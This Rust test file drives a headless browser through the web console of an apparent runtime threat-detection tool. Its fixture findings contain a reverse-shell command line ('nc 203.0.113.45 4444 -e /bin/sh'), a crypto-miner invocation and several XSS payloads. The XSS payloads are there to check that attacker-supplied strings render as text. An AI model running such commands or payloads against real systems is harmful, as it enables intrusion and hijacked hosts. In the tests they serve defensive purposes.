//! The web console in a real browser: headless Chromium over WebDriver
//! (`support/browser.rs`) against a real server with a real SQLite store
//! (`support/console_fixture.rs`). Each test signs in the way `saker up`'s
//! link does (`#token=` in the URL), then uses the pages as a person would:
//! clicks, typing, selects, file inputs.
//!
//! Skipped with a loud message when Chromium or ChromeDriver cannot start;
//! failed instead when `SAKER_REQUIRE_PRIVILEGED=1`.

#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "support/browser.rs"]
mod browser;
#[path = "support/console_fixture.rs"]
mod console_fixture;

use browser::Browser;
use console_fixture::{
    Saker, Spec, container_resource, ecs_resource, fid, host_resource, kubernetes_resource, process,
    reverse_shell_process,
};
use serde_json::{Value, json};

const SCRIPT_PAYLOAD: &str = "<script>window.__pwned=1</script>";
const IMG_PAYLOAD: &str = "<img src=x onerror=window.__pwned=2>";

/// Five findings that differ in what the list filters and sorts on:
///
/// | n | type | severity | resource | count | updated |
/// |---|---|---|---|---|---|
/// | 1 | ReverseShell | High | ECS prod, web-api image | 3 | 5 min ago |
/// | 2 | CryptoMinerExecuted | High | container, nginx:1.27 | 40 | 20 min ago |
/// | 3 | NewBinaryExecuted | Medium | container, nginx:1.25-alpine | 12 | 50 min ago |
/// | 4 | Discovery SuspiciousCommand | Low | host build-host-7 | 1 | 3 h ago |
/// | 5 | ElevationToRoot | Medium | Kubernetes pod, redis:7 | 7 | 2 days ago |
fn standard_findings() -> Vec<Value> {
    let mut shell = Spec {
        n: 1,
        finding_type: "Execution:Runtime/ReverseShell",
        severity: 8.0,
        resource: ecs_resource("prod", "api", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/web-api:1.4.2"),
        process: reverse_shell_process(),
        context: json!({ "addressFamily": "AF_INET", "commandLineExample": "/bin/sh", "ianaProtocolNumber": 6 }),
        count: 3,
        age_minutes: 5,
    }
    .json();
    shell["service"]["action"] = json!({
        "actionType": "NETWORK_CONNECTION",
        "networkConnectionAction": {
            "blocked": false, "connectionDirection": "OUTBOUND", "protocol": "TCP",
            "remoteIpDetails": { "ipAddressV4": "203.0.113.45" }, "remotePortDetails": { "port": 4444 }
        }
    });
    let mut miner = Spec {
        n: 2,
        finding_type: "Impact:Runtime/CryptoMinerExecuted",
        severity: 8.0,
        resource: container_resource("edge-nginx", "docker.io/library/nginx:1.27"),
        process: process("xmrig", "/tmp/xmrig", &["/tmp/xmrig", "-o", "pool.example.org:3333"]),
        context: json!({}),
        count: 40,
        age_minutes: 20,
    }
    .json();
    miner["service"]["evidence"] =
        json!({ "threatIntelligenceDetails": [{ "threatListName": "miners-test", "threatNames": ["XMRig"] }] });
    vec![
        shell,
        miner,
        Spec {
            n: 3,
            finding_type: "Execution:Runtime/NewBinaryExecuted",
            severity: 5.0,
            resource: container_resource("web", "nginx:1.25-alpine"),
            process: process("dropper", "/tmp/dropper", &["/tmp/dropper", "--quiet"]),
            context: json!({}),
            count: 12,
            age_minutes: 50,
        }
        .json(),
        Spec {
            n: 4,
            finding_type: "Discovery:Runtime/SuspiciousCommand",
            severity: 2.0,
            resource: host_resource("build-host-7"),
            process: process("uname", "/usr/bin/uname", &["uname", "-a"]),
            context: json!({}),
            count: 1,
            age_minutes: 180,
        }
        .json(),
        Spec {
            n: 5,
            finding_type: "PrivilegeEscalation:Runtime/ElevationToRoot",
            severity: 5.0,
            resource: kubernetes_resource("api-7f9c", "payments", "redis:7"),
            process: process("sudo", "/usr/bin/sudo", &["sudo", "-s"]),
            context: json!({}),
            count: 7,
            age_minutes: 2 * 24 * 60,
        }
        .json(),
    ]
}

fn ids(ns: &[u32]) -> Value {
    json!(ns.iter().map(|n| fid(*n)).collect::<Vec<_>>())
}

/// The ids of the findings table's rows (null while there is no table).
const ROW_IDS: &str = "const t = document.querySelector('#findings-table');\
                       return t && [...t.querySelectorAll('tbody tr[data-id]')].map(r => r.dataset.id)";

/// Wait until the findings table shows exactly these findings, in this order.
async fn wait_rows(b: &Browser, what: &str, want: &[u32]) {
    let want = ids(want);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let got = b.js(ROW_IDS).await;
        if got == want {
            return;
        }
        if std::time::Instant::now() > deadline {
            panic!("{what}: rows {got} instead of {want}\npage:\n{}", b.page_text().await);
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

/// A server with the standard findings and a browser signed in through the
/// `#token=` link, on the findings page. `None` when no browser can start.
async fn signed_in(test: &str, findings: &[Value]) -> Option<(Saker, Browser)> {
    let b = Browser::start_or_skip(test).await?;
    let s = Saker::start().await;
    s.ingest(findings).await;
    b.goto(&s.url(&format!("#token={}", s.token))).await;
    b.wait_for("[data-view=findings][data-loaded]").await;
    Some((s, b))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signs_in_from_the_link_and_lists_findings_with_a_chart() {
    let Some((s, b)) = signed_in("signs_in_from_the_link", &standard_findings()).await else { return };

    // The token left the address bar, and stays in this tab's session storage.
    assert_eq!(b.js("return location.hash").await, json!("#/findings"));
    assert_eq!(b.js("return sessionStorage.getItem('saker.apiToken')").await, json!(s.token));
    assert!(b.text("#account-id").await.contains(&s.account), "the header names the account");

    // Current findings, newest update first.
    wait_rows(&b, "all findings", &[1, 2, 3, 4, 5]).await;
    let row = b.text(&format!("tr[data-id='{}']", fid(2))).await;
    for part in
        ["High", "Impact:Runtime/CryptoMinerExecuted", "edge-nginx", "docker.io/library/nginx:1.27", "xmrig", "40"]
    {
        assert!(row.contains(part), "row of finding 2 shows {part}: {row}");
    }
    let host_row = b.text(&format!("tr[data-id='{}']", fid(4))).await;
    assert!(host_row.contains("build-host-7") && host_row.contains("Low"), "{host_row}");

    // The chart: stacked SVG bars, High among them, and a legend with totals.
    b.wait_for("#chart svg rect.bar").await;
    let bars = b.js("return document.querySelectorAll('#chart svg rect.bar-high').length").await;
    assert!(bars.as_u64().unwrap_or(0) >= 1, "a High bar is drawn: {bars}");
    let legend = b.text("#chart .chart-legend").await;
    assert!(legend.contains("new finding") && legend.contains("High"), "{legend}");
    b.screenshot("findings").await;
    b.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn filters_by_severity_and_resource_and_sorts_by_count() {
    let Some((s, b)) = signed_in("filters_and_sorts", &standard_findings()).await else { return };
    wait_rows(&b, "all findings", &[1, 2, 3, 4, 5]).await;

    // Severity High.
    b.select("#f-severity", "high").await;
    wait_rows(&b, "High only", &[1, 2]).await;
    // ... and a container image wildcard.
    b.select("#f-rfield", "image").await;
    b.type_into("#f-resource", "*nginx*").await;
    b.click("#f-apply").await;
    wait_rows(&b, "High and *nginx*", &[2]).await;

    // The filters live in the hash: a reload keeps them.
    let hash = b.js("return location.hash").await;
    let hash = hash.as_str().unwrap_or_default();
    assert!(hash.contains("severity=high") && hash.contains("resource=*nginx*"), "{hash}");
    b.client.refresh().await.expect("reload");
    b.wait_for("[data-view=findings][data-loaded]").await;
    wait_rows(&b, "after a reload", &[2]).await;
    assert_eq!(b.js("return document.getElementById('f-severity').value").await, json!("high"));

    // Any severity, same resource filter: both nginx containers.
    b.select("#f-severity", "all").await;
    wait_rows(&b, "*nginx* at any severity", &[2, 3]).await;
    // A hostname instead.
    b.select("#f-rfield", "hostname").await;
    b.type_into("#f-resource", "build-*").await;
    b.click("#f-apply").await;
    wait_rows(&b, "hostname build-*", &[4]).await;
    // A type wildcard and the last hour.
    b.type_into("#f-resource", "").await;
    b.type_into("#f-type", "Execution:*").await;
    b.click("#f-apply").await;
    wait_rows(&b, "Execution:*", &[1, 3]).await;
    b.type_into("#f-type", "").await;
    b.select("#f-range", "hour").await;
    wait_rows(&b, "updated in the last hour", &[1, 2, 3]).await;

    // Back to everything, then sort by count: most first, then least first.
    b.goto(&s.url("#/findings")).await;
    wait_rows(&b, "all findings again", &[1, 2, 3, 4, 5]).await;
    b.click("th[data-sort=count] button").await;
    wait_rows(&b, "by count, descending", &[2, 3, 5, 1, 4]).await;
    b.click("th[data-sort=count] button").await;
    wait_rows(&b, "by count, ascending", &[4, 1, 5, 3, 2]).await;
    assert!(b.js("return location.hash").await.as_str().unwrap_or_default().contains("sort=count"));
    // Severity, highest first (ties in the store's order).
    b.click("th[data-sort=severity] button").await;
    let sev = b
        .wait_js(
            "sorted by severity",
            "const r = [...document.querySelectorAll('#findings-table tbody tr[data-id] .sev')].map(e => e.textContent);\
             return r.length === 5 && r.join() === 'High,High,Medium,Medium,Low' && r",
        )
        .await;
    assert_eq!(sev, json!(["High", "High", "Medium", "Medium", "Low"]));
    b.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding_detail_shows_lineage_context_and_raw_json() {
    let Some((_s, b)) = signed_in("finding_detail", &standard_findings()).await else { return };
    b.click(&format!("tr[data-id='{}'] a.finding-link", fid(1))).await;
    b.wait_for("[data-view=findings][data-loaded] #lineage").await;
    assert_eq!(b.js("return location.hash").await, json!(format!("#/findings/{}", fid(1))));

    // Summary and resource.
    assert!(b.text("#finding-type").await.contains("Execution:Runtime/ReverseShell"));
    assert_eq!(b.text("#archived-state").await, "Current");
    assert_eq!(
        b.text("#task-arn").await,
        "arn:aws:ecs:eu-west-1:123456789012:task/prod/3f9a1c2e7b6d4e5f8a0b1c2d3e4f5a6b"
    );

    // The lineage tree: the process, then each ancestor nested under it, each
    // argv as separate arguments.
    let tree = b
        .js("return [...document.querySelectorAll('#lineage .proc-node')].map(n => ({\
               name: n.querySelector('.proc-name').textContent,\
               pid: n.querySelector('.pid').textContent,\
               argv: [...n.querySelectorAll('ol.argv > li')].map(li => li.textContent),\
               depth: n.parentElement.dataset.depth }))")
        .await;
    assert_eq!(
        tree,
        json!([
            { "name": "sh", "pid": "pid 48114", "argv": ["/bin/sh"], "depth": "0" },
            { "name": "nc", "pid": "pid 48113", "argv": ["nc", "203.0.113.45", "4444", "-e", "/bin/sh"], "depth": "1" },
            { "name": "python3", "pid": "pid 31230", "argv": ["python3", "/app/server.py", "--port", "8080"], "depth": "2" },
            { "name": "containerd-shim", "pid": "pid 31207",
              "argv": ["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-address", "/run/containerd/containerd.sock"],
              "depth": "3" },
            { "name": "systemd", "pid": "pid 1", "argv": ["/usr/lib/systemd/systemd", "--switched-root", "--system"], "depth": "4" }
        ])
    );
    // Nested: each ancestor's node sits inside its child's list item.
    let nesting =
        b.js("return document.querySelectorAll('#lineage li.proc li.proc li.proc li.proc li.proc').length").await;
    assert_eq!(nesting, json!(1), "five levels deep");
    let user =
        b.js("return document.querySelectorAll('#lineage .proc-node')[3].querySelector('.user').textContent").await;
    assert_eq!(user, json!("user root (uid 0)"));

    // Context as a key/value table.
    let context = b
        .js("return Object.fromEntries([...document.querySelectorAll('#context-table tbody tr')]\
               .map(r => [r.querySelector('th').textContent, r.querySelector('td').textContent]))")
        .await;
    assert_eq!(
        context,
        json!({ "addressFamily": "AF_INET", "commandLineExample": "/bin/sh", "ianaProtocolNumber": "6" })
    );

    // The action.
    let page = b.page_text().await;
    assert!(page.contains("NETWORK_CONNECTION") && page.contains("203.0.113.45:4444") && page.contains("OUTBOUND"));

    // The raw JSON is the finding the API returned.
    let raw = b.js("return JSON.parse(document.getElementById('raw-json').textContent)").await;
    assert_eq!(raw["id"], json!(fid(1)));
    assert_eq!(raw["type"], json!("Execution:Runtime/ReverseShell"));
    assert_eq!(raw["service"]["runtimeDetails"]["process"]["lineage"].as_array().map(Vec::len), Some(4));
    b.click("#copy-json").await;
    b.screenshot("detail").await;
    b.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn archiving_from_the_detail_page_hides_the_finding() {
    let Some((s, b)) = signed_in("archive_from_detail", &standard_findings()).await else { return };
    b.goto(&s.url(&format!("#/findings/{}", fid(2)))).await;
    b.wait_for("[data-view=findings][data-loaded] #detail-archive").await;
    let evidence = b.text("ul.evidence").await;
    assert!(evidence.contains("miners-test") && evidence.contains("XMRig"), "{evidence}");
    assert_eq!(b.text("#detail-archive").await, "Archive");

    b.click("#detail-archive").await;
    b.wait_js("the archived state", "return document.getElementById('archived-state')?.textContent === 'Archived'")
        .await;
    assert_eq!(b.text("#detail-archive").await, "Unarchive");
    let f = s.api_get(&format!("/api/v1/findings/{}", fid(2))).await;
    assert_eq!(f["service"]["archived"], json!(true), "the API says archived: {f}");

    // Gone from the current findings, there among the archived ones.
    b.click("#back-to-list").await;
    wait_rows(&b, "current findings", &[1, 3, 4, 5]).await;
    b.select("#f-archived", "archived").await;
    wait_rows(&b, "archived findings", &[2]).await;

    // Unarchive it from the list with the checkboxes.
    b.click(&format!("tr[data-id='{}'] input.row-select", fid(2))).await;
    b.click("#unarchive-selected").await;
    wait_rows(&b, "no archived findings", &[]).await;
    let f = s.api_get(&format!("/api/v1/findings/{}", fid(2))).await;
    assert_eq!(f["service"]["archived"], json!(false));
    b.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacker_strings_render_as_text() {
    let nasty = Spec {
        n: 66,
        finding_type: "Execution:Runtime/NewBinaryExecuted",
        severity: 5.0,
        resource: container_resource(IMG_PAYLOAD, SCRIPT_PAYLOAD),
        process: process(
            "sh",
            &format!("/tmp/{SCRIPT_PAYLOAD}"),
            &["sh", "-c", IMG_PAYLOAD, "\"><svg onload=window.__pwned=3>"],
        ),
        context: json!({
            "commandLineExample": IMG_PAYLOAD,
            "newBinaryPath": format!("/tmp/{SCRIPT_PAYLOAD}"),
            "nested": { "html": SCRIPT_PAYLOAD, "list": [IMG_PAYLOAD] }
        }),
        count: 1,
        age_minutes: 1,
    }
    .json();
    let Some((_s, b)) = signed_in("attacker_strings", &[nasty]).await else { return };
    // Report CSP violations from here on (an injected inline script would be one).
    b.js("window.__csp = []; document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective)); return 1").await;
    wait_rows(&b, "the one finding", &[66]).await;

    let row = b.text(&format!("tr[data-id='{}']", fid(66))).await;
    assert!(row.contains(IMG_PAYLOAD) && row.contains(SCRIPT_PAYLOAD), "the list shows the names as text: {row}");
    assert_no_injection(&b, "findings list").await;

    b.click(&format!("tr[data-id='{}'] a.finding-link", fid(66))).await;
    b.wait_for("[data-view=findings][data-loaded] #lineage").await;
    assert_eq!(b.text("#lineage .exe-path").await, format!("/tmp/{SCRIPT_PAYLOAD}"));
    let argv = b.js("return [...document.querySelectorAll('#lineage ol.argv > li')].map(li => li.textContent)").await;
    assert_eq!(argv, json!(["sh", "-c", IMG_PAYLOAD, "\"><svg onload=window.__pwned=3>"]));
    let context = b.text("#context-table").await;
    assert!(context.contains(IMG_PAYLOAD) && context.contains(SCRIPT_PAYLOAD), "{context}");
    let nested = b.text("#context-table tr[data-key=nested] pre").await;
    assert!(nested.contains(&format!("\"html\": \"{SCRIPT_PAYLOAD}\"")), "nested values as JSON text: {nested}");
    let page = b.page_text().await;
    for payload in [SCRIPT_PAYLOAD, IMG_PAYLOAD] {
        assert!(page.contains(payload), "{payload} is visible as text");
    }
    let raw = b.text("#raw-json").await;
    assert!(raw.contains(SCRIPT_PAYLOAD) && raw.contains(IMG_PAYLOAD));
    assert_no_injection(&b, "finding detail").await;
    b.finish().await;
}

/// Nothing from the data became markup or ran.
async fn assert_no_injection(b: &Browser, page: &str) {
    let state = b
        .js("return { pwned: typeof window.__pwned, csp: window.__csp || [],\
               injected: document.querySelectorAll('#app img, #app script, #app svg[onload], #app [onerror], #app [onload]').length }")
        .await;
    assert_eq!(state, json!({ "pwned": "undefined", "csp": [], "injected": 0 }), "{page}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_token_returns_to_sign_in_with_an_error() {
    let Some(b) = Browser::start_or_skip("bad_token").await else { return };
    let s = Saker::start().await;
    s.ingest(&standard_findings()).await;

    b.goto(&s.url("#token=sk_api_0123456789abcdef_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")).await;
    let message = b.text("#signin-message .banner.error").await;
    assert!(message.contains("unknown or revoked token"), "{message}");
    assert_eq!(b.js("return sessionStorage.getItem('saker.apiToken')").await, Value::Null);
    assert!(!b.js("return location.href").await.as_str().unwrap_or_default().contains("sk_api_"), "token left the URL");
    assert_eq!(b.js("return document.getElementById('topbar').hidden").await, json!(true));

    // A wrong token typed into the form: the same.
    b.type_into("#token-input", "sk_api_ffffffffffffffff_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB").await;
    b.js("document.getElementById('signin-message').textContent = ''; return 1").await;
    b.click("#signin-form button[type=submit]").await;
    let message = b.text("#signin-message .banner.error").await;
    assert!(message.contains("unknown or revoked token"), "{message}");
    b.screenshot("signin").await;

    // The right one: the findings.
    b.type_into("#token-input", &s.token).await;
    b.click("#signin-form button[type=submit]").await;
    b.wait_for("[data-view=findings][data-loaded]").await;
    wait_rows(&b, "findings after signing in", &[1, 2, 3, 4, 5]).await;

    // Sign out: back to the form, token gone.
    b.click("#sign-out").await;
    b.wait_for("#signin-form").await;
    assert_eq!(b.js("return sessionStorage.getItem('saker.apiToken')").await, Value::Null);
    b.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn coverage_and_lists_pages_load_and_upload_a_list() {
    let Some((s, b)) = signed_in("coverage_and_lists", &standard_findings()).await else { return };
    let now = chrono::Utc::now();
    let hb = saker_store::Heartbeat {
        agent_id: "agent-0001".into(),
        run_id: "run-0001".into(),
        hostname: "ip-10-0-12-34".into(),
        agent_version: "0.1.0".into(),
        kernel: "6.1.0-test-amd64".into(),
        mode: "sidecar".into(),
        ecs_cluster: Some("prod".into()),
        ecs_task_arn: Some("arn:aws:ecs:eu-west-1:123456789012:task/prod/3f9a1c2e7b6d4e5f".into()),
        attached_programs: vec!["process_exec".into()],
        events_total: 123_456,
        events_lost: 0,
        cpu_percent: 1.5,
        rss_bytes: 48 * 1024 * 1024,
        started_at: now,
        sent_at: now,
        stopping: false,
    };
    let store = &s.running.app.store;
    store.record_heartbeat(&s.account, &hb).await.expect("heartbeat");
    let healthy = saker_store::Health { status: saker_store::HealthStatus::Healthy, issue: None, since: now };
    store.set_agent_health(&s.account, "agent-0001", &healthy).await.expect("health");

    // Coverage.
    b.click("a[data-nav=coverage]").await;
    b.wait_for("[data-view=coverage][data-loaded]").await;
    let agent = b.text("#resources-table tr[data-agent=agent-0001]").await;
    for part in
        ["ip-10-0-12-34", "sidecar", "prod", "0.1.0", "6.1.0-test-amd64", "HEALTHY", "123,456", "1.5 %", "48.0 MiB"]
    {
        assert!(agent.contains(part), "the resource row shows {part}: {agent}");
    }
    let cluster = b.text("#clusters-table tr[data-name=prod]").await;
    assert!(cluster.contains("100") && cluster.contains("1 / 1") && cluster.contains("HEALTHY"), "{cluster}");
    b.wait_for("#health-events-table").await;
    b.screenshot("coverage").await;

    // Lists: upload a plain list through the form's file input.
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("c2.txt");
    std::fs::write(&file, "# test list\n203.0.113.7\nevil.example.com\n").expect("list file");
    b.click("a[data-nav=lists]").await;
    b.wait_for("[data-view=lists][data-loaded]").await;
    b.type_into("#list-name", "test-c2").await;
    b.select("#list-kind", "threat").await;
    b.select("#list-category", "c2").await;
    b.select("#list-format", "plain").await;
    let input = b.client.find(fantoccini::Locator::Css("#list-file")).await.expect("file input");
    input.send_keys(&file.display().to_string()).await.expect("choosing the file");
    b.click("#list-upload").await;
    let row = b.text("#lists-table tr[data-name=test-c2]").await;
    for part in ["threat", "c2", "plain", "active"] {
        assert!(row.contains(part), "the list row shows {part}: {row}");
    }
    let counts = b
        .js("return [...document.querySelectorAll('#lists-table tr[data-name=test-c2] td.num')].map(td => td.textContent)")
        .await;
    assert_eq!(counts, json!(["1", "1", "0", "0"]), "IPs, domains, hashes, skipped");
    let banner = b.text(".banner.ok").await;
    assert!(banner.contains("Uploaded test-c2"), "{banner}");
    let lists = s.api_get("/api/v1/lists").await;
    assert_eq!(lists["lists"].as_array().map(Vec::len), Some(1), "{lists}");

    // Deactivate, then delete (two clicks: no blocking dialog).
    b.click("#lists-table tr[data-name=test-c2] .row-actions button").await;
    b.wait_js(
        "the list inactive",
        "return document.querySelector('#lists-table tr[data-name=test-c2]')?.textContent.includes('inactive')",
    )
    .await;
    b.click("#lists-table tr[data-name=test-c2] button.danger").await;
    b.click("#lists-table tr[data-name=test-c2] button.danger.armed").await;
    b.wait_js("the list gone", "return document.querySelector('#lists-table') && !document.querySelector('#lists-table tr[data-name=test-c2]')")
        .await;
    // A list with nothing usable: the API's message is shown.
    b.type_into("#list-name", "junk").await;
    b.type_into("#list-text", "not an indicator\n").await;
    b.click("#list-upload").await;
    let error = b.text(".banner.error").await;
    assert!(error.contains("no usable entries"), "{error}");
    b.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn suppression_rule_from_the_builder_archives_matching_findings() {
    let Some((s, b)) = signed_in("suppression_rules", &standard_findings()).await else { return };
    b.click("a[data-nav=filters]").await;
    b.wait_for("[data-view=filters][data-loaded]").await;

    b.type_into("#filter-name", "hide-discovery").await;
    b.type_into("#filter-description", "uname on build hosts").await;
    b.type_into("#filter-rank", "3").await;
    b.select("#criteria-rows .criteria-row:nth-child(1) .criteria-field", "type").await;
    b.select("#criteria-rows .criteria-row:nth-child(1) .criteria-op", "eq").await;
    b.type_into("#criteria-rows .criteria-row:nth-child(1) .criteria-value", "Discovery:Runtime/SuspiciousCommand")
        .await;
    b.click("#add-condition").await;
    b.select("#criteria-rows .criteria-row:nth-child(2) .criteria-field", "resource.instanceDetails.hostname").await;
    b.select("#criteria-rows .criteria-row:nth-child(2) .criteria-op", "matches").await;
    b.type_into("#criteria-rows .criteria-row:nth-child(2) .criteria-value", "build-*").await;
    b.click("#filter-save").await;

    let banner = b.text(".banner.ok").await;
    assert!(banner.contains("Saved rule hide-discovery") && banner.contains("1 existing"), "{banner}");
    let row = b.text("#filters-table tr[data-name=hide-discovery]").await;
    assert!(row.contains("ARCHIVE") && row.contains("uname on build hosts") && row.contains("build-*"), "{row}");
    let f = s.api_get(&format!("/api/v1/findings/{}", fid(4))).await;
    assert_eq!(f["service"]["archived"], json!(true), "the rule archived the stored finding");

    // Raw JSON with an unknown field: the API's 400 message is shown.
    b.type_into("#filter-name", "broken-rule").await;
    b.click("#filter-raw-mode").await;
    b.type_into("#filter-json", r#"{"criterion": {"nope": {"eq": ["x"]}}}"#).await;
    b.click("#filter-save").await;
    let error = b.text(".banner.error").await;
    assert!(error.contains("nope"), "{error}");

    // Delete the rule.
    b.click("#filters-table tr[data-name=hide-discovery] button.danger").await;
    b.click("#filters-table tr[data-name=hide-discovery] button.danger.armed").await;
    b.wait_js("the rule gone", "return document.querySelector('#filters-table') && !document.querySelector('#filters-table tr[data-name=hide-discovery]')")
        .await;
    b.finish().await;
}
